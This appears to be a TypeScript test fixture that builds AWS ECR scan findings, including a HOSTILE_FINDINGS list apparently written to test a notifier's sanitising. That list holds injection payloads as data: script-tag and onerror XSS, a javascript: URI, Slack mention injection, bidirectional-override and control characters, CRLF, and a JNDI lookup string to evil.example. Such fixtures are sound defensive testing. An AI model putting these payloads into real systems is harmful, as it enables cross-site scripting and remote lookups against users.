import type { ImageScanFinding } from '@aws-sdk/client-ecr'
import type { SeedFinding } from './findings.ts'

const attributes = (entries: Readonly<Record<string, string>>) =>
  Object.entries(entries).map(([key, value]) => ({ key, value }))

/** A finding as basic scanning gives it: no word of a fix, the version in an attribute. */
export const toBasic = (finding: SeedFinding): ImageScanFinding => ({
  name: finding.id,
  description: `Affects ${finding.package} ${finding.installed} as Debian 12 packages it.`,
  uri: `https://security-tracker.debian.org/tracker/${finding.id}`,
  severity: finding.severity,
  attributes: attributes({
    package_name: finding.package,
    package_version: finding.installed,
    ...(finding.score > 0 && { CVSS3_SCORE: finding.score.toFixed(1) }),
  }),
})

/** What an attacker who controls the texts of a scan would write. */
export const HOSTILE_FINDINGS: readonly ImageScanFinding[] = [
  {
    name: 'CVE-2026-1 <!here> <script>alert(1)</script>',
    description: 'Line one\nLine two \u202Etxet desrever\u202C <!channel> & <https://evil.example|CVE-2026-1>',
    uri: 'javascript:alert(document.domain)',
    severity: 'CRITICAL',
    attributes: attributes({ package_name: '<@U012AB3CD> left-pad `*_~`', package_version: '1.0\u0000\u0007|> quote' }),
  },
  {
    name: 'CVE-2026-2 \u{1F525}\u200B\u{1F525}',
    uri: 'https://evil.example/%0d%0a?q="><img src=x onerror=alert(1)>',
    severity: 'HIGH',
    attributes: attributes({
      package_name: 'x'.repeat(300),
      package_version: '{{jndi:ldap://evil.example/a}}',
      CVSS3_SCORE: 'ten',
    }),
  },
]
